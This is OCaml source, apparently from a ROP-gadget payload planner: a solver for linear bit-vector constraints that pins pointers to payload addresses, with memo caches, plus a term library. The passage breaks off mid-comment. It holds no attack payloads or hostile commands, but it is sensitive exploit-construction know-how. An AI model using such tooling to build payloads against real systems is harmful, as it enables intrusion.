  | terms -> (
    (* prefer |coeff| = 1 pivots to keep numbers small *)
    let unit_pivot = List.find_opt (fun (_, c) -> c = 1L || c = -1L) terms in
    let odd_pivot = List.find_opt (fun (_, c) -> Int64.logand c 1L = 1L) terms in
    match (match unit_pivot with Some p -> Some p | None -> odd_pivot) with
    | None -> Error `Hard
    | Some (v, c) ->
      let rest = { l with lin_terms = List.remove_assoc v l.lin_terms } in
      (* c*v + rest = 0  =>  v = rest * (-(c^-1)) *)
      let rhs = lin_scale (Int64.neg (inv64 c)) rest in
      Ok (extend_subst sigma v rhs))

(* Pointer-pinning variant of [solve_eq] that also handles a single
   even-coefficient pivot 2^s * m (m odd) when the constant side is
   divisible by 2^s — the jump-table pattern `table + 8*index`, where the
   attacker can point the table read anywhere 8-aligned. *)
let solve_pin sigma l =
  match solve_eq sigma l with
  | (Ok _ | Error `Inconsistent) as r -> r
  | Error `Hard -> (
    let l' = subst_linear sigma l in
    match l'.lin_terms with
    | [ (v, c) ] when c <> 0L ->
      let s = ref 0 in
      let m = ref c in
      while Int64.logand !m 1L = 0L && !s < 63 do
        m := Int64.shift_right_logical !m 1;
        incr s
      done;
      let mask = Int64.sub (Int64.shift_left 1L !s) 1L in
      if Int64.logand l'.lin_const mask <> 0L then Error `Hard
      else begin
        (* c*v + k = 0 with c = 2^s*m: v = -(k/2^s) * m^-1 *)
        let k = Int64.shift_right l'.lin_const !s in
        let rhs = lin_const (Int64.mul (Int64.neg k) (inv64 !m)) in
        Ok (extend_subst sigma v rhs)
      end
    | _ -> Error `Hard)

(* ----- main entry ----- *)

let special_values =
  [ 0L; 1L; 2L; -1L; 8L; 0x100L; 0x1000L; 0x400000L; 0x601000L; Int64.min_int ]

(* Fault-injection hook: when it returns true the query is abandoned as
   Unknown before any reasoning, simulating a divergent backend.  The
   solver sits below Gp_core, so the harness installs the predicate here
   directly (see Gp_harness.Faultsim).  Unknown is always a sound
   answer, so injection cannot corrupt results — only degrade them.
   The predicate receives the query so an installed schedule can be a
   pure function of it — order-independent, hence identical under any
   domain count (injection is checked BEFORE the memo cache, and an
   injected Unknown is never cached). *)
let chaos_unknown : (Formula.t list -> bool) ref = ref (fun _ -> false)

(* Running count of Unknown verdicts (injected, genuine, or served from
   the memo cache — every Unknown ANSWERED counts, so the tally depends
   only on the query sequence, not on cache temperature); Api snapshots
   it around each stage to attribute solver indecision.  Atomic: bumped
   from worker domains during parallel subsumption. *)
let unknowns = Atomic.make 0

let check_real ?(rng = Gp_util.Rng.create 0x5eed) ?(pool = default_pool)
    ?(max_trials = 200) (formulas : Formula.t list) : result =
  let formulas = List.map Formula.simplify formulas in
  if List.mem Formula.False formulas then Unsat
  else begin
    let formulas = List.filter (fun f -> f <> Formula.True) formulas in
    (* Partition into linear equalities / pointer atoms / the rest. *)
    let eqs, pointers, rest =
      List.fold_left
        (fun (eqs, ptrs, rest) f ->
          match f with
          | Formula.Eq (a, b) -> (
            match Term.linearize (Term.Sub (a, b)) with
            | Some l -> (l :: eqs, ptrs, rest)
            | None -> (eqs, ptrs, f :: rest))
          | Formula.Readable _ | Formula.Writable _ -> (eqs, f :: ptrs, rest)
          | _ -> (eqs, ptrs, f :: rest))
        ([], [], []) formulas
    in
    let eqs = List.rev eqs and pointers = List.rev pointers and rest = List.rev rest in
    (* Gaussian elimination on the equalities. *)
    let step acc l =
      match acc with
      | None -> None
      | Some (sigma, hard) -> (
        match solve_eq sigma l with
        | Ok sigma' -> Some (sigma', hard)
        | Error `Inconsistent -> None
        | Error `Hard -> Some (sigma, l :: hard))
    in
    match List.fold_left step (Some (Smap.empty, [])) eqs with
    | None -> Unsat
    | Some (sigma, hard_eqs) ->
      (* Bind pointer atoms: each free-variable pointer term gets pinned to
         a distinct pool address via an extra linear equation. *)
      let pin (sigma, unpinned, idx) f =
        let term =
          match f with
          | Formula.Writable t | Formula.Readable t -> t
          | _ -> assert false
        in
        match Term.linearize term with
        | None -> (sigma, f :: unpinned, idx)
        | Some l -> (
          let l = subst_linear sigma l in
          match l.lin_terms with
          | [] ->
            (* already concrete; verified at the end against the pool *)
            (sigma, f :: unpinned, idx)
          | _ -> (
            if pool.pins = [] then (sigma, f :: unpinned, idx)
            else
              let addr = List.nth pool.pins (idx mod List.length pool.pins) in
              match solve_pin sigma (lin_add l (lin_const (Int64.neg addr))) with
              | Ok sigma' -> (sigma', unpinned, idx + 1)
              | Error _ -> (sigma, f :: unpinned, idx)))
      in
      let sigma, unpinned_ptrs, npinned =
        List.fold_left pin (sigma, [], 0) pointers
      in
      (* Residual atoms to satisfy by search. *)
      let apply_sigma f =
        Formula.map_terms
          (fun t ->
            Term.simplify
              (Term.subst
                 (fun v ->
                   Option.map (fun l -> Term.of_linear l) (Smap.find_opt v sigma))
                 t))
          f
      in
      let residual =
        List.map apply_sigma
          (rest
          @ List.map (fun l -> Formula.Eq (Term.of_linear l, Term.Const 0L))
              hard_eqs
          @ unpinned_ptrs)
        |> List.map Formula.simplify
      in
      if List.mem Formula.False residual then
        (* A contradiction.  If pin CHOICES were involved we did not
           explore alternatives, so only Unknown is sound; a contradiction
           from pure equality reasoning is a real Unsat. *)
        (if npinned = 0 then Unsat else Unknown)
      else begin
        let residual = List.filter (fun f -> f <> Formula.True) residual in
        (* Free variables = everything mentioned anywhere minus sigma's keys. *)
        let all_vars =
          List.fold_left
            (fun s f -> Term.Vset.union s (Formula.vars f))
            Term.Vset.empty formulas
        in
        let sigma_vars =
          Smap.fold
            (fun v l s ->
              List.fold_left
                (fun s (v', _) -> Term.Vset.add v' s)
                (Term.Vset.add v s) l.lin_terms)
            sigma Term.Vset.empty
        in
        let free =
          Term.Vset.elements
            (Term.Vset.diff
               (Term.Vset.union all_vars sigma_vars)
               (Smap.fold (fun v _ s -> Term.Vset.add v s) sigma Term.Vset.empty))
        in
        let readable = pool.readable in
        let writable = pool.writable in
        let build_model assignment =
          let free_model = assignment in
          let m =
            Smap.fold
              (fun v l acc ->
                let value =
                  List.fold_left
                    (fun s (v', c) -> Int64.add s (Int64.mul c (model_fn free_model v')))
                    l.lin_const l.lin_terms
                in
                Smap.add v value acc)
              sigma free_model
          in
          m
        in
        let try_assignment assignment =
          let m = build_model assignment in
          if
            List.for_all (Formula.eval ~readable ~writable (model_fn m)) residual
            (* double-check the original system — guards against any bug in
               the elimination *)
            && List.for_all (Formula.eval ~readable ~writable (model_fn m)) formulas
          then Some m
          else None
        in
        let zero_assignment =
          List.fold_left (fun m v -> Smap.add v 0L m) Smap.empty free
        in
        match try_assignment zero_assignment with
        | Some m -> Sat m
        | None ->
          let rec search k =
            if k >= max_trials then Unknown
            else begin
              let assignment =
                List.fold_left
                  (fun m v ->
                    let value =
                      if Gp_util.Rng.int rng 4 = 0 then
                        List.nth special_values
                          (Gp_util.Rng.int rng (List.length special_values))
                      else Gp_util.Rng.next_int64 rng
                    in
                    Smap.add v value m)
                  Smap.empty free
              in
              match try_assignment assignment with
              | Some m -> Sat m
              | None -> search (k + 1)
            end
          in
          search 0
      end
  end

(* Memo of [check] verdicts for default-configuration queries and of
   [prove_equal] probes (see Cache).  Both caches answer the canonical
   form, so a hit is indistinguishable from a fresh solve. *)
let memo : (Formula.t list, result) Cache.t = Cache.create ()
let equal_memo : (Term.t * Term.t, bool) Cache.t = Cache.create ()

(* Memo for non-default pools that the CALLER can key structurally:
   [Layout.pool ~salt] is a pure function of (payload_base, rotation), so
   the planner passes that pair as [pool_key] and identical instantiation
   queries — which recur constantly as the same gadget is tried against
   the same condition along different branches — are answered once.  The
   key is structured, not hashed, so distinct pools can never collide. *)
let pool_memo : (((int64 * int) * Formula.t list), result) Cache.t =
  Cache.create ()

let check ?rng ?pool ?pool_key ?max_trials formulas =
  if !chaos_unknown formulas then begin
    Atomic.incr unknowns;
    Unknown
  end
  else begin
    let count r =
      (match r with Unknown -> Atomic.incr unknowns | Sat _ | Unsat -> ());
      r
    in
    (* Only queries against the solver's defaults are memoizable: a
       caller-supplied rng, trial budget, or pointer pool changes the
       verdict function, and pools carry closures we cannot key on. *)
    let cacheable =
      Option.is_none rng && Option.is_none max_trials
      && (match pool with None -> true | Some p -> p == default_pool)
    in
    if cacheable then begin
      let canonical = Cache.canon formulas in
      count (Cache.find_or_add memo canonical (fun () -> check_real canonical))
    end
    else
      match pool_key with
      | Some pk when Option.is_none rng && Option.is_none max_trials ->
        (* Caller vouches that [pk] fully determines [pool]; check_real
           runs with its fixed default rng, so the verdict is a pure
           function of (pk, canonical conjunction). *)
        let canonical = Cache.canon formulas in
        count
          (Cache.find_or_add pool_memo (pk, canonical) (fun () ->
               check_real ?pool canonical))
      | _ -> count (check_real ?rng ?pool ?max_trials formulas)
  end

(* Entailment: hyps |= concl.  True only when hyps ∧ ¬concl is provably
   unsat; Unknown is treated as "not entailed" (conservative for
   subsumption: we keep more gadgets than strictly necessary). *)
let entails ?rng ?pool hyps concl =
  match check ?rng ?pool (Formula.negate concl :: hyps) with
  | Unsat -> true
  | Sat _ | Unknown -> false

(* Probabilistic semantic equality of two terms: canonical forms equal, or
   no counterexample found in [trials] random evaluations.  Used by
   subsumption testing; unsoundness here only costs pool diversity and is
   caught downstream by emulator validation of payloads. *)
let prove_equal_real ?(rng = Gp_util.Rng.create 0x7e57) ?(trials = 32) a b =
  let a = Term.simplify a and b = Term.simplify b in
  if a = b then true
  else begin
    let vs =
      Term.Vset.elements (Term.Vset.union (Term.vars a) (Term.vars b))
    in
    let refuted = ref false in
    let k = ref 0 in
    while (not !refuted) && !k < trials do
      let m =
        List.fold_left
          (fun m v ->
            let value =
              if !k = 0 then 0L
              else if !k = 1 then 1L
              else Gp_util.Rng.next_int64 rng
            in
            Smap.add v value m)
          Smap.empty vs
      in
      if Term.eval (model_fn m) a <> Term.eval (model_fn m) b then refuted := true;
      incr k
    done;
    not !refuted
  end

(* ----- memo persistence (DESIGN.md §11) -----

   The three verdict memos are exactly the caches whose keys are pure
   structural data, so they can be dumped into the on-disk store and
   pre-seeded on the next run: every stored verdict is a pure function
   of its canonical key, so importing can only skip solves, never change
   one.  Each entry is self-contained (its own Term.Ser pool); sections
   are sorted by serialized key so the file bytes are deterministic. *)

module Bin = Gp_util.Store.Bin

let put_result _w b = function
  | Sat m ->
    Bin.u8 b 0;
    let bindings = Smap.bindings m in
    Bin.int_ b (List.length bindings);
    List.iter (fun (v, x) -> Bin.str b v; Bin.i64 b x) bindings
  | Unsat -> Bin.u8 b 1
  | Unknown -> Bin.u8 b 2

let get_result _r s pos =
  match Bin.gu8 s pos with
  | 0 ->
    let n = Bin.gint s pos in
    if n < 0 then raise Bin.Truncated;
    let m = ref Smap.empty in
    for _ = 1 to n do
      let v = Bin.gstr s pos in
      let x = Bin.gi64 s pos in
      m := Smap.add v x !m
    done;
    Sat !m
  | 1 -> Unsat
  | 2 -> Unknown
  | _ -> raise Bin.Truncated

let ser put_k put_v (k, v) =
  let w = Term.Ser.writer () in
  let kb = Buffer.create 64 in
  put_k w kb k;
  (* The value continues the key's node pool, so [w] spans the entry and
     the reader must consume key then value in order. *)
  let vb = Buffer.create 32 in
  put_v w vb v;
  (Buffer.contents kb, Buffer.contents vb)

let deser get_k get_v (ks, vs) =
  let r = Term.Ser.reader () in
  let kpos = ref 0 in
  let k = get_k r ks kpos in
  (* value pool refs resolve against nodes defined in the key *)
  let vpos = ref 0 in
  let v = get_v r vs vpos in
  (k, v)

let dump_memo cache put_k put_v =
  Cache.export cache
  |> List.map (ser put_k put_v)
  |> List.sort compare

let seed_memo cache get_k get_v entries =
  Cache.import cache (List.map (deser get_k get_v) entries)

let put_pair w b (a, b') = Term.Ser.put w b a; Term.Ser.put w b b'
let get_pair r s pos =
  let a = Term.Ser.get r s pos in
  let b = Term.Ser.get r s pos in
  (a, b)

let put_pool_key w b ((base, salt), fs) =
  Bin.i64 b base; Bin.int_ b salt; Formula.put_list w b fs
let get_pool_key r s pos =
  let base = Bin.gi64 s pos in
  let salt = Bin.gint s pos in
  let fs = Formula.get_list r s pos in
  ((base, salt), fs)

let put_bool _w b v = Bin.bool_ b v
let get_bool _r s pos = Bin.gbool s pos
let put_formulas w b fs = Formula.put_list w b fs
let get_formulas r s pos = Formula.get_list r s pos

let memo_section_names = [ "solver.check"; "solver.equal"; "solver.pool" ]

let export_memos () =
  [ { Gp_util.Store.name = "solver.check";
      entries = dump_memo memo put_formulas put_result };
    { Gp_util.Store.name = "solver.equal";
      entries = dump_memo equal_memo put_pair put_bool };
    { Gp_util.Store.name = "solver.pool";
      entries = dump_memo pool_memo put_pool_key put_result } ]

let import_memos (sections : Gp_util.Store.section list) =
  let count = ref 0 in
  List.iter
    (fun { Gp_util.Store.name; entries } ->
      let seed c gk gv =
        count := !count + List.length entries;
        seed_memo c gk gv entries
      in
      match name with
      | "solver.check" -> seed memo get_formulas get_result
      | "solver.equal" -> seed equal_memo get_pair get_bool
      | "solver.pool" -> seed pool_memo get_pool_key get_result
      | _ -> ())
    sections;
  !count

(* Default-configuration probes are memoized on the simplified pair;
   equality is symmetric, so the two sides are ordered (structurally)
   first.  Probes run with a fresh default rng each time, so the
   verdict is a pure function of the (simplified) pair. *)
let prove_equal ?rng ?trials a b =
  match (rng, trials) with
  | None, None ->
    let a = Term.simplify a and b = Term.simplify b in
    if a = b then true
    else
      let key = if compare a b <= 0 then (a, b) else (b, a) in
      Cache.find_or_add equal_memo key (fun () -> prove_equal_real a b)
  | _ -> prove_equal_real ?rng ?trials a b
