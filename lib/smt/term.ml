(* 64-bit bit-vector terms.

   Stands in for Z3's bit-vector theory (DESIGN.md §2).  Two design
   points:

   - Variables are identified by NAME.  The symbolic executor uses a
     deterministic naming scheme ("rax_0" for the initial value of rax,
     "stk_16" for the stack slot at rsp0+16), so post-conditions of two
     different gadgets with the same behaviour are structurally identical
     terms — the basis of cheap subsumption testing.

   - [simplify] canonicalizes the LINEAR fragment (sums of variables with
     constant coefficients, mod 2^64) exactly.  Gadget semantics are
     overwhelmingly linear (pop/mov/lea/add/sub/inc/dec and xor-zeroing),
     so canonical forms make semantic equality decidable by structural
     comparison there; the residue is handled by the solver's randomized
     refutation. *)

type t =
  | Var of string
  | Const of int64
  | Add of t * t
  | Sub of t * t
  | Mul of t * t
  | Neg of t
  | Not of t
  | And of t * t
  | Or of t * t
  | Xor of t * t
  | Shl of t * t
  | Shr of t * t
  | Sar of t * t

let rec to_string = function
  | Var v -> v
  | Const c -> if c >= 0L && c < 4096L then Int64.to_string c else Printf.sprintf "0x%Lx" c
  | Add (a, b) -> Printf.sprintf "(%s + %s)" (to_string a) (to_string b)
  | Sub (a, b) -> Printf.sprintf "(%s - %s)" (to_string a) (to_string b)
  | Mul (a, b) -> Printf.sprintf "(%s * %s)" (to_string a) (to_string b)
  | Neg a -> Printf.sprintf "(- %s)" (to_string a)
  | Not a -> Printf.sprintf "(~ %s)" (to_string a)
  | And (a, b) -> Printf.sprintf "(%s & %s)" (to_string a) (to_string b)
  | Or (a, b) -> Printf.sprintf "(%s | %s)" (to_string a) (to_string b)
  | Xor (a, b) -> Printf.sprintf "(%s ^ %s)" (to_string a) (to_string b)
  | Shl (a, b) -> Printf.sprintf "(%s << %s)" (to_string a) (to_string b)
  | Shr (a, b) -> Printf.sprintf "(%s >> %s)" (to_string a) (to_string b)
  | Sar (a, b) -> Printf.sprintf "(%s >>s %s)" (to_string a) (to_string b)

let rec vars_fold f acc = function
  | Var v -> f acc v
  | Const _ -> acc
  | Neg a | Not a -> vars_fold f acc a
  | Add (a, b) | Sub (a, b) | Mul (a, b) | And (a, b) | Or (a, b) | Xor (a, b)
  | Shl (a, b) | Shr (a, b) | Sar (a, b) ->
    vars_fold f (vars_fold f acc a) b

module Vset = Set.Make (String)

let vars t = vars_fold (fun s v -> Vset.add v s) Vset.empty t

let rec size = function
  | Var _ | Const _ -> 1
  | Neg a | Not a -> 1 + size a
  | Add (a, b) | Sub (a, b) | Mul (a, b) | And (a, b) | Or (a, b) | Xor (a, b)
  | Shl (a, b) | Shr (a, b) | Sar (a, b) ->
    1 + size a + size b

(* ----- linear normal form: constant + sorted (var, coeff) list ----- *)

type linear = { lin_const : int64; lin_terms : (string * int64) list }

let lin_const c = { lin_const = c; lin_terms = [] }

let lin_add a b =
  let rec merge xs ys =
    match xs, ys with
    | [], r | r, [] -> r
    | (v1, c1) :: t1, (v2, c2) :: t2 ->
      let cmp = String.compare v1 v2 in
      if cmp = 0 then
        let c = Int64.add c1 c2 in
        if c = 0L then merge t1 t2 else (v1, c) :: merge t1 t2
      else if cmp < 0 then (v1, c1) :: merge t1 ys
      else (v2, c2) :: merge xs t2
  in
  { lin_const = Int64.add a.lin_const b.lin_const;
    lin_terms = merge a.lin_terms b.lin_terms }

let lin_scale k l =
  if k = 0L then lin_const 0L
  else
    { lin_const = Int64.mul k l.lin_const;
      lin_terms =
        List.filter_map
          (fun (v, c) ->
            let c = Int64.mul k c in
            if c = 0L then None else Some (v, c))
          l.lin_terms }

let lin_neg l = lin_scale (-1L) l

(* Try to view a term as a linear combination. *)
let rec linearize = function
  | Var v -> Some { lin_const = 0L; lin_terms = [ (v, 1L) ] }
  | Const c -> Some (lin_const c)
  | Add (a, b) ->
    Option.bind (linearize a) (fun la ->
        Option.map (fun lb -> lin_add la lb) (linearize b))
  | Sub (a, b) ->
    Option.bind (linearize a) (fun la ->
        Option.map (fun lb -> lin_add la (lin_neg lb)) (linearize b))
  | Neg a -> Option.map lin_neg (linearize a)
  | Mul (Const k, b) | Mul (b, Const k) -> Option.map (lin_scale k) (linearize b)
  | Shl (a, Const k) when k >= 0L && k < 64L ->
    Option.map (lin_scale (Int64.shift_left 1L (Int64.to_int k))) (linearize a)
  | Not a ->
    (* ~x = -x - 1 *)
    Option.map (fun la -> lin_add (lin_neg la) (lin_const (-1L))) (linearize a)
  | _ -> None

(* Canonical term for a linear form: ((c1*v1 + c2*v2) + ... ) + const. *)
let of_linear l =
  let term_of (v, c) =
    if c = 1L then Var v
    else if c = -1L then Neg (Var v)
    else Mul (Const c, Var v)
  in
  match l.lin_terms with
  | [] -> Const l.lin_const
  | t0 :: rest ->
    let sum = List.fold_left (fun acc t -> Add (acc, term_of t)) (term_of t0) rest in
    if l.lin_const = 0L then sum else Add (sum, Const l.lin_const)

(* ----- simplification ----- *)

let rec simplify t =
  match linearize t with
  | Some l -> of_linear l
  | None -> (
    match t with
    | Var _ | Const _ -> t
    | Add (a, b) -> mk_add (simplify a) (simplify b)
    | Sub (a, b) -> mk_sub (simplify a) (simplify b)
    | Mul (a, b) -> mk_mul (simplify a) (simplify b)
    | Neg a -> mk_neg (simplify a)
    | Not a -> mk_not (simplify a)
    | And (a, b) -> mk_and (simplify a) (simplify b)
    | Or (a, b) -> mk_or (simplify a) (simplify b)
    | Xor (a, b) -> mk_xor (simplify a) (simplify b)
    | Shl (a, b) -> mk_shl (simplify a) (simplify b)
    | Shr (a, b) -> mk_shr (simplify a) (simplify b)
    | Sar (a, b) -> mk_sar (simplify a) (simplify b))

and relin t = match linearize t with Some l -> of_linear l | None -> t

and mk_add a b =
  match a, b with
  | Const x, Const y -> Const (Int64.add x y)
  | Const 0L, t | t, Const 0L -> t
  | _ -> relin (Add (a, b))

and mk_sub a b =
  match a, b with
  | Const x, Const y -> Const (Int64.sub x y)
  | t, Const 0L -> t
  | x, y when x = y -> Const 0L
  | _ -> relin (Sub (a, b))

and mk_mul a b =
  match a, b with
  | Const x, Const y -> Const (Int64.mul x y)
  | Const 0L, _ | _, Const 0L -> Const 0L
  | Const 1L, t | t, Const 1L -> t
  | _ -> relin (Mul (a, b))

and mk_neg a =
  match a with
  | Const x -> Const (Int64.neg x)
  | Neg t -> t
  | _ -> relin (Neg a)

and mk_not a =
  match a with
  | Const x -> Const (Int64.lognot x)
  | Not t -> t
  | _ -> relin (Not a)

and mk_and a b =
  match a, b with
  | Const x, Const y -> Const (Int64.logand x y)
  | Const 0L, _ | _, Const 0L -> Const 0L
  | Const -1L, t | t, Const -1L -> t
  | x, y when x = y -> x
  | _ -> And (a, b)

and mk_or a b =
  match a, b with
  | Const x, Const y -> Const (Int64.logor x y)
  | Const 0L, t | t, Const 0L -> t
  | Const -1L, _ | _, Const -1L -> Const (-1L)
  | x, y when x = y -> x
  | _ -> Or (a, b)

and mk_xor a b =
  match a, b with
  | Const x, Const y -> Const (Int64.logxor x y)
  | Const 0L, t | t, Const 0L -> t
  | x, y when x = y -> Const 0L
  | _ -> Xor (a, b)

and mk_shl a b =
  match a, b with
  | Const x, Const y when y >= 0L && y < 64L -> Const (Int64.shift_left x (Int64.to_int y))
  | t, Const 0L -> t
  | _ -> relin (Shl (a, b))

and mk_shr a b =
  match a, b with
  | Const x, Const y when y >= 0L && y < 64L ->
    Const (Int64.shift_right_logical x (Int64.to_int y))
  | t, Const 0L -> t
  | _ -> Shr (a, b)

and mk_sar a b =
  match a, b with
  | Const x, Const y when y >= 0L && y < 64L -> Const (Int64.shift_right x (Int64.to_int y))
  | t, Const 0L -> t
  | _ -> Sar (a, b)

(* Smart constructors: simplify on the way in so terms stay small. *)
let var v = Var v
let const c = Const c
let add a b = mk_add a b
let sub a b = mk_sub a b
let mul a b = mk_mul a b
let neg a = mk_neg a
let lognot a = mk_not a
let logand a b = mk_and a b
let logor a b = mk_or a b
let logxor a b = mk_xor a b
let shl a b = mk_shl a b
let shr a b = mk_shr a b
let sar a b = mk_sar a b

(* ----- hash-consing & memoized canonicalization ----- *)

(* Interning table: structural term -> its canonical (physically unique)
   representative.  Children are interned before the parent is looked
   up, so the table's structural hashing and equality tests touch nodes
   that are already shared — polymorphic [compare] short-circuits on
   physical equality, making lookups cheap even for deep terms.  The
   table only ever grows; identical terms from different domains resolve
   to the same node, which is what gives [==] its meaning here.

   Thread safety: one mutex guards the whole recursive walk.  No user
   code runs under the lock (pure table operations only), so holding it
   across the recursion cannot deadlock and keeps per-node overhead to
   a single acquisition per [intern] call. *)

let intern_tbl : (t, t) Hashtbl.t = Hashtbl.create 4096
let intern_lock = Mutex.create ()

let intern (t : t) : t =
  let rec go t =
    let node =
      match t with
      | Var _ | Const _ -> t
      | Add (a, b) -> Add (go a, go b)
      | Sub (a, b) -> Sub (go a, go b)
      | Mul (a, b) -> Mul (go a, go b)
      | Neg a -> Neg (go a)
      | Not a -> Not (go a)
      | And (a, b) -> And (go a, go b)
      | Or (a, b) -> Or (go a, go b)
      | Xor (a, b) -> Xor (go a, go b)
      | Shl (a, b) -> Shl (go a, go b)
      | Shr (a, b) -> Shr (go a, go b)
      | Sar (a, b) -> Sar (go a, go b)
    in
    match Hashtbl.find_opt intern_tbl node with
    | Some c -> c
    | None ->
      Hashtbl.add intern_tbl node node;
      node
  in
  Mutex.protect intern_lock (fun () -> go t)

(* Memoized [simplify]/[linearize], keyed on the interned node.  The
   canonicalizers are pure, so a stored result is a function of the key
   alone: a memo hit can never change a value, only skip recomputing it
   (the property suite checks this).  Same discipline as the solver
   cache — compute OUTSIDE the lock, publish first-write-wins — but
   hand-rolled because [Cache] lives above [Formula], which depends on
   this module.

   [set_memo_enabled false] restores the seed's uncached behavior;
   benchmarks use it for honest cold-path timings. *)

let memo_lock = Mutex.create ()
let simplify_tbl : (t, t) Hashtbl.t = Hashtbl.create 4096
let linearize_tbl : (t, linear option) Hashtbl.t = Hashtbl.create 4096
let memo_on = ref true
let memo_hits = Atomic.make 0
let memo_misses = Atomic.make 0

let memo_enabled () = !memo_on
let set_memo_enabled b = memo_on := b
let memo_stats () = (Atomic.get memo_hits, Atomic.get memo_misses)

let reset_memo () =
  Mutex.protect memo_lock (fun () ->
      Hashtbl.reset simplify_tbl;
      Hashtbl.reset linearize_tbl);
  Mutex.protect intern_lock (fun () -> Hashtbl.reset intern_tbl);
  Atomic.set memo_hits 0;
  Atomic.set memo_misses 0

let memoized (tbl : (t, 'v) Hashtbl.t) (key : t) (f : t -> 'v) : 'v =
  match Mutex.protect memo_lock (fun () -> Hashtbl.find_opt tbl key) with
  | Some v ->
    Atomic.incr memo_hits;
    v
  | None ->
    Atomic.incr memo_misses;
    let v = f key in
    Mutex.protect memo_lock (fun () ->
        if not (Hashtbl.mem tbl key) then Hashtbl.add tbl key v);
    v

(* The exported canonicalizers: leaves skip the machinery entirely
   (already canonical / trivially linear); everything else goes through
   the intern table so structurally equal queries share one memo slot. *)

let simplify t =
  match t with
  | Var _ | Const _ -> t
  | _ ->
    if not !memo_on then simplify t
    else
      let key = intern t in
      memoized simplify_tbl key (fun k -> intern (simplify k))

let linearize t =
  match t with
  | Var v -> Some { lin_const = 0L; lin_terms = [ (v, 1L) ] }
  | Const c -> Some (lin_const c)
  | _ ->
    if not !memo_on then linearize t
    else
      let key = intern t in
      memoized linearize_tbl key (fun k -> linearize k)

(* ----- stable binary (de)serialization -----

   Persistent-store encoding (DESIGN.md §11).  Marshal is unusable here:
   its byte output depends on the sharing structure of the value, and
   hash-consing makes sharing an artifact of evaluation history.  This
   encoding is a function of the STRUCTURE alone: a deterministic
   postorder walk that assigns dense indices to distinct subterms, so
   interned and non-interned copies of the same term serialize to
   identical bytes and shared subterms are written once per writer.

   Stream grammar (one writer/reader pair per store entry):
     0xD0 def    -- define node [wnext]: tag u8, payload (child refs are
                    indices of earlier defs, encoded as int_)
     0xE0 int_   -- reference an already-defined node
   [put] emits any missing defs followed by one 0xE0 ref; [get] consumes
   defs until it hits the ref.  Every node is re-interned on read, so
   deserialized terms join the live hash-cons table. *)

module Ser = struct
  module Bin = Gp_util.Store.Bin

  type writer = { wtbl : (t, int) Hashtbl.t; mutable wnext : int }

  let writer () = { wtbl = Hashtbl.create 64; wnext = 0 }

  let tag_of = function
    | Var _ -> 0 | Const _ -> 1 | Add _ -> 2 | Sub _ -> 3 | Mul _ -> 4
    | Neg _ -> 5 | Not _ -> 6 | And _ -> 7 | Or _ -> 8 | Xor _ -> 9
    | Shl _ -> 10 | Shr _ -> 11 | Sar _ -> 12

  let rec def w b t =
    match Hashtbl.find_opt w.wtbl t with
    | Some idx -> idx
    | None ->
      let emit2 a b' =
        let ia = def w b a and ib = def w b b' in
        Bin.u8 b 0xd0; Bin.u8 b (tag_of t); Bin.int_ b ia; Bin.int_ b ib
      in
      (match t with
      | Var v -> Bin.u8 b 0xd0; Bin.u8 b 0; Bin.str b v
      | Const c -> Bin.u8 b 0xd0; Bin.u8 b 1; Bin.i64 b c
      | Neg a | Not a ->
        let ia = def w b a in
        Bin.u8 b 0xd0; Bin.u8 b (tag_of t); Bin.int_ b ia
      | Add (a, b') | Sub (a, b') | Mul (a, b') | And (a, b') | Or (a, b')
      | Xor (a, b') | Shl (a, b') | Shr (a, b') | Sar (a, b') ->
        emit2 a b');
      let idx = w.wnext in
      w.wnext <- idx + 1;
      Hashtbl.add w.wtbl t idx;
      idx

  let put w b t =
    let idx = def w b t in
    Bin.u8 b 0xe0;
    Bin.int_ b idx

  type reader = { mutable nodes : t array; mutable rnext : int }

  let reader () = { nodes = Array.make 64 (Const 0L); rnext = 0 }

  let node r i =
    if i < 0 || i >= r.rnext then raise Bin.Truncated;
    r.nodes.(i)

  let push r t =
    if r.rnext = Array.length r.nodes then begin
      let bigger = Array.make (2 * r.rnext) (Const 0L) in
      Array.blit r.nodes 0 bigger 0 r.rnext;
      r.nodes <- bigger
    end;
    r.nodes.(r.rnext) <- t;
    r.rnext <- r.rnext + 1

  let get r s pos =
    let rec loop () =
      match Bin.gu8 s pos with
      | 0xe0 -> node r (Bin.gint s pos)
      | 0xd0 ->
        let tag = Bin.gu8 s pos in
        let un mk = mk (node r (Bin.gint s pos)) in
        let bin mk =
          let a = node r (Bin.gint s pos) in
          let b = node r (Bin.gint s pos) in
          mk a b
        in
        let t =
          match tag with
          | 0 -> Var (Bin.gstr s pos)
          | 1 -> Const (Bin.gi64 s pos)
          | 2 -> bin (fun a b -> Add (a, b))
          | 3 -> bin (fun a b -> Sub (a, b))
          | 4 -> bin (fun a b -> Mul (a, b))
          | 5 -> un (fun a -> Neg a)
          | 6 -> un (fun a -> Not a)
          | 7 -> bin (fun a b -> And (a, b))
          | 8 -> bin (fun a b -> Or (a, b))
          | 9 -> bin (fun a b -> Xor (a, b))
          | 10 -> bin (fun a b -> Shl (a, b))
          | 11 -> bin (fun a b -> Shr (a, b))
          | 12 -> bin (fun a b -> Sar (a, b))
          | _ -> raise Bin.Truncated
        in
        push r (intern t);
        loop ()
      | _ -> raise Bin.Truncated
    in
    loop ()
end

(* Structural equality after canonicalization. *)
let equal a b = simplify a = simplify b

(* Replace variables via [f]; unmapped variables stay. *)
let rec subst f t =
  match t with
  | Var v -> ( match f v with Some t' -> t' | None -> t)
  | Const _ -> t
  | Add (a, b) -> mk_add (subst f a) (subst f b)
  | Sub (a, b) -> mk_sub (subst f a) (subst f b)
  | Mul (a, b) -> mk_mul (subst f a) (subst f b)
  | Neg a -> mk_neg (subst f a)
  | Not a -> mk_not (subst f a)
  | And (a, b) -> mk_and (subst f a) (subst f b)
  | Or (a, b) -> mk_or (subst f a) (subst f b)
  | Xor (a, b) -> mk_xor (subst f a) (subst f b)
  | Shl (a, b) -> mk_shl (subst f a) (subst f b)
  | Shr (a, b) -> mk_shr (subst f a) (subst f b)
  | Sar (a, b) -> mk_sar (subst f a) (subst f b)

(* Memoized form of [subst] for compositional summarization (DESIGN.md
   §16): fix the mapping once, share work across the many terms of one
   suffix summary through a private per-closure memo.  The substitution
   is simultaneous — images are substituted in, never re-traversed — so
   it is capture-avoiding by construction even when an image mentions a
   variable the mapping also covers.  Rebuilding goes through the same
   mk_* constructors as [subst], so the two agree term for term.  The
   returned closure is not thread-safe; callers keep one per worker. *)
let subst_cached f =
  (* physical-identity shortcut: an untouched subterm is its own image
     (the mk_* constructors are deterministic, so rebuilding from
